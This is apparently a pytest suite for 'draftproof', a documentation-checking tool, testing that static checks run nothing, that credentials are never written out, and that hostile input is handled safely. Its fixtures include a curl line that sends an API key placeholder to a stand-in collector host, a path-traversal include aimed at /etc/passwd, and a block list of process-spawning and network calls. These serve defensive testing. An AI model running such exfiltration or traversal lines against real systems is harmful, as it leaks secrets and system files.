"""The six promises of the design, each with a test that names it. The folders hold many more about each."""

# ruff: noqa: E501 - long lines are inputs, not code
from __future__ import annotations

import datetime
import hashlib
import json
import os
import subprocess
import sys
from typing import TYPE_CHECKING

import pytest

from draftproof.cli.main import main
from draftproof.reading.reader import read
from draftproof.records.fields import FIELDS
from drafts import draftproof, filled, key, run, write
from loopback import answer
from verify_support import EVENTS, responses_server, rows, sample, verify

if TYPE_CHECKING:
    from pathlib import Path

TRAP = "__import__('pathlib').Path('ran').write_text('x')"
DRAFT = (
    "---\ntitle: Streaming\ndraftproof:\n  provider: openai\n---\n\n# Streaming\n\n"
    f"```python\n{TRAP}\n"
    'client = OpenAI(api_key="{{key:openai-project}}")\n'
    'client.responses.create(model="gpt-5", messages=[], stream=True)\nprint("{{key:openai-project}}")\n```\n\n'
    "```bash\ntouch ran; curl https://collector.example/?k={{key:sk-48}} -H 'Authorization: Bearer {{key:sk-48}}'\n```\n\n"
    "The fastest API, free forever.\n"
)
WATCHED = """
import sys
sys.dont_write_bytecode = True
FORBIDDEN = ("socket.", "subprocess.", "os.exec", "os.posix_spawn", "os.spawn", "os.system", "os.fork", "urllib.",
             "shutil.", "ftplib.", "smtplib.", "webbrowser.", "pty.", "compile_sample")

def guard(event, arguments):
    if event.startswith(FORBIDDEN):
        print("FORBIDDEN", event, arguments, file=sys.stderr)
        raise SystemExit(99)

sys.addaudithook(guard)
from draftproof.cli.main import main
sys.exit(main(sys.argv[1:]))
"""


def _draft(folder: Path) -> None:
    write(folder, {"docs/a.md": DRAFT, "docs/b.md": "# B\n\n`{{key:github-classic}}`\n"})


def _watched(folder: Path, seed: str) -> subprocess.CompletedProcess[str]:
    command = [
        sys.executable,
        "-c",
        WATCHED,
        "check",
        "--no-cache",
        "--format",
        "json",
        "--today",
        "2026-01-31",
    ]
    env = {**os.environ, "PYTHONHASHSEED": seed}
    return subprocess.run(
        [*command, "docs"], cwd=folder, env=env, capture_output=True, text=True, encoding="utf-8", check=False
    )


def test_promise_1_static_checks_are_offline_deterministic_and_run_nothing(tmp_path: Path) -> None:
    """Static checks are offline, deterministic (the date is an input), and run nothing that they read."""
    _draft(tmp_path)
    first, second = _watched(tmp_path, "1"), _watched(tmp_path, "4711")
    assert first.returncode == 1, first.stderr
    assert "FORBIDDEN" not in first.stderr + second.stderr
    assert first.stdout == second.stdout
    assert {"KEY001", "API001"} <= {finding["code"] for finding in json.loads(first.stdout)["findings"]}
    assert not list(tmp_path.rglob("ran"))


def test_promise_1_the_date_is_an_input(tmp_path: Path) -> None:
    """Deterministic: the date is an input."""
    write(tmp_path, {"a.md": "---\ntitle: A\nlast-reviewed: 2025-01-01\n---\n\n# A\n\nText.\n"})
    days = [datetime.date(2025, 1, 2), datetime.date(2031, 1, 1)]
    early, late = ([f.code for f in run(tmp_path / "a.md", today=day).result.findings] for day in days)
    assert early == [f.code for f in run(tmp_path / "a.md", today=days[0]).result.findings]
    assert "SRC001" not in early
    assert "SRC001" in late


def test_promise_2_a_document_never_chooses_who_is_asked(tmp_path: Path) -> None:
    """The network is used only when asked. A request goes only to a provider that the command line or the
    configuration names; what a document says affects static judgement only. Redirects are not followed.
    """
    with responses_server() as (collector, stolen), responses_server() as (base, asked):
        front = f"---\ndraftproof:\n  provider: openai\n---\n\n{sample()}\n\n"
        own = f'```python\nclient = OpenAI(base_url="{collector}")\nclient.responses.create(model="gpt-5", input="x")\n```\n'
        write(tmp_path, {"a.md": front + own})
        assert main(["check", "--isolated", "--exit-zero", "--quiet", str(tmp_path / "a.md")]) == 0
        assert asked.raw == stolen.raw == []
        planned = verify(tmp_path, "a.md", "--base-url", base, "--plan")
        assert planned.returncode == 0
        assert asked.raw == stolen.raw == []
        done = rows(verify(tmp_path, "a.md", "--base-url", base, "--format", "jsonl"))
        assert asked.raw
        assert stolen.raw == []
        assert all(f"host: {base.split('/')[2]}" in head.lower() for head in asked.heads)
    assert any(row.get("result") == "not-run" for row in done)


def test_promise_2_redirects_are_not_followed_and_plain_http_is_refused(tmp_path: Path) -> None:
    """Redirects are not followed. HTTPS except on loopback."""
    write(tmp_path, {"a.md": sample()})
    with responses_server() as (elsewhere, stolen):
        moved = answer(b"", "307 Temporary Redirect", "text/plain", f"Location: {elsewhere}/responses")
        with responses_server(moved) as (base, asked):
            done = verify(tmp_path, "a.md", "--base-url", base)
            assert asked.raw
        assert done.returncode == 4
        assert stolen.raw == []
    refused = verify(tmp_path, "a.md", "--base-url", "http://api.example/v1")
    assert refused.returncode == 2
    assert "https" in refused.stderr.lower()


@pytest.mark.parametrize(
    "name", ["text", "sarif", "html"]
)  # the others: tests/engine/test_masking_everywhere.py
def test_promise_3_a_credential_is_never_written(name: str, tmp_path: Path) -> None:
    """A credential is never written: not in findings, reports, logs, errors, caches, fingerprints, baselines.

    A canary is put into a draft, and whatever the runs write or say is searched for pieces of it.
    """
    canaries = [key("openai-project", "9"), key("sk-48", "9")]
    text = DRAFT.replace("{{key:openai-project}}", canaries[0]).replace("{{key:sk-48}}", canaries[1])
    (tmp_path / "a.md").write_text(text, encoding="utf-8")
    env = {**os.environ, "DRAFTPROOF_CACHE_DIR": str(tmp_path / "cache")}
    said = ""
    for more in ([], ["--diff"], ["--write-baseline", "--output", "report"], ["--verbose", "--statistics"]):
        form = [] if "--diff" in more else ["--format", name]
        done = draftproof("check", *form, *more, "a.md", cwd=tmp_path, env=env)
        said += done.stdout + done.stderr
    files = [path for path in tmp_path.rglob("*") if path.is_file() and path.name != "a.md"]
    assert any("cache" in path.parts for path in files)
    assert any(path.name == "baseline.txt" for path in files)
    said += "".join(path.read_text(encoding="utf-8", errors="replace") for path in files)
    for canary in canaries:
        body = canary[-36:]
        assert canary in text
        assert not [body[at : at + 12] for at in range(len(body) - 11) if body[at : at + 12] in said]
        assert hashlib.sha256(canary.encode()).hexdigest()[:12] not in said


def test_promise_4_hostile_input_ends_in_a_finding_with_a_position(tmp_path: Path) -> None:
    """Hostile input ends in a finding or a clear error with a position: never a traceback, a hang, or a file
    outside the tree. (That the work is linear: tests/engine/test_hostile_input.py, tests/bounds.)
    """
    hostile = {
        "deep.md": "> " * 5_000 + "x\n",
        "deep.ipynb": "[" * 100_000,
        "bytes.md": b"\xff\xfe\x00x",
        "cut.md": b"# \xc3\n",
        "yaml.md": "---\na: &a [*a, *a]\nb: {c: [}\n---\n",
        "fence.md": "```python\n" * 2_000,
        "up.md": '--8<-- "../../../../../../etc/passwd"\n\n```python\nx = 1\n```\n',
    }
    write(tmp_path / "in", hostile)
    done = draftproof("check", "in", "--format", "jsonl", "--isolated", cwd=tmp_path)
    assert "Traceback" not in done.stderr
    assert "internal error" not in done.stderr
    findings = [json.loads(line) for line in done.stdout.splitlines()]
    assert {"in/deep.ipynb", "in/bytes.md", "in/cut.md"} <= {each["path"] for each in findings}
    assert all(each["line"] >= 1 and each["column"] >= 1 for each in findings)
    assert "root:" not in done.stdout
    assert sorted(path.name for path in tmp_path.iterdir()) == ["in"]


def test_promise_5_the_others_are_still_checked_and_writes_are_whole(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A file that fails to parse is reported and the others are still checked. Writes are atomic. A fix never
    leaves a document that parses differently outside the edit.
    """
    write(tmp_path, {"bad.ipynb": '{"cells": [', "good.md": "# A\n\n`{{key:github-classic}}` | x\n\n> - b\n"})
    codes = {(f.path.rpartition("/")[2], f.code) for f in run(tmp_path).result.findings}
    assert {("bad.ipynb", "DOC001"), ("good.md", "KEY001")} <= codes
    path = tmp_path / "good.md"
    before = path.read_bytes()

    def full(*_: object, **__: object) -> None:
        raise OSError(28, "No space left on device")

    with monkeypatch.context() as patch:
        patch.setattr("os.replace", full)
        patch.setattr("pathlib.Path.replace", full)
        failed = run(path, fix=True)
    assert path.read_bytes() == before
    assert "No space left on device" in " ".join(
        (*failed.errors, *failed.result.errors, *failed.result.notes)
    )
    assert sorted(each.name for each in tmp_path.iterdir()) == ["bad.ipynb", "good.md"]
    run(path, fix=True)
    after = path.read_bytes()
    assert after != before
    shapes = [
        [(block.kind, block.containers, block.level) for block in read(data, "good.md").parts[0].blocks]
        for data in (before, after)
    ]
    assert shapes[0] == shapes[1]


def test_promise_6_a_pass_says_only_what_was_seen(tmp_path: Path) -> None:
    """A pass says only what was seen: one request, one stream, one moment."""
    write(tmp_path, {"a.md": sample()})
    with responses_server() as (base, asked):
        done = verify(tmp_path, "a.md", "--base-url", base, "--format", "jsonl")
    (row,) = [each for each in rows(done) if "result" in each]
    assert row["result"] == "pass"
    real = [head for head in asked.heads if "invalid" not in head.lower()]
    assert len(real) == 1
    (path,) = (tmp_path / ".draftproof" / "evidence").rglob("*.json")
    record = json.loads(path.read_text(encoding="utf-8"))
    assert tuple(record)[: len(FIELDS)] == tuple(FIELDS)
    said = json.dumps(record).lower()
    for word in ("latency", "fast", "price", "available", "reliable", "second", "hello", "hel"):
        assert f'"{word}' not in said
        assert f" {word} " not in said


@pytest.mark.parametrize(
    "cut", [EVENTS[: len(EVENTS) // 2], EVENTS.replace(b"response.completed", b"response.x"), b""]
)
def test_promise_6_no_pass_without_an_end(cut: bytes, tmp_path: Path) -> None:
    """A stream whose end was not seen is no pass."""
    write(tmp_path, {"a.md": sample()})
    with responses_server(answer(cut, "200 OK", "text/event-stream")) as (base, _):
        done = verify(tmp_path, "a.md", "--base-url", base, "--format", "jsonl")
    assert done.returncode in (1, 4)
    assert [row["result"] for row in rows(done) if "result" in row] != ["pass"]


def test_the_draft_of_these_tests_is_worth_it() -> None:
    assert "{{" not in filled(DRAFT)
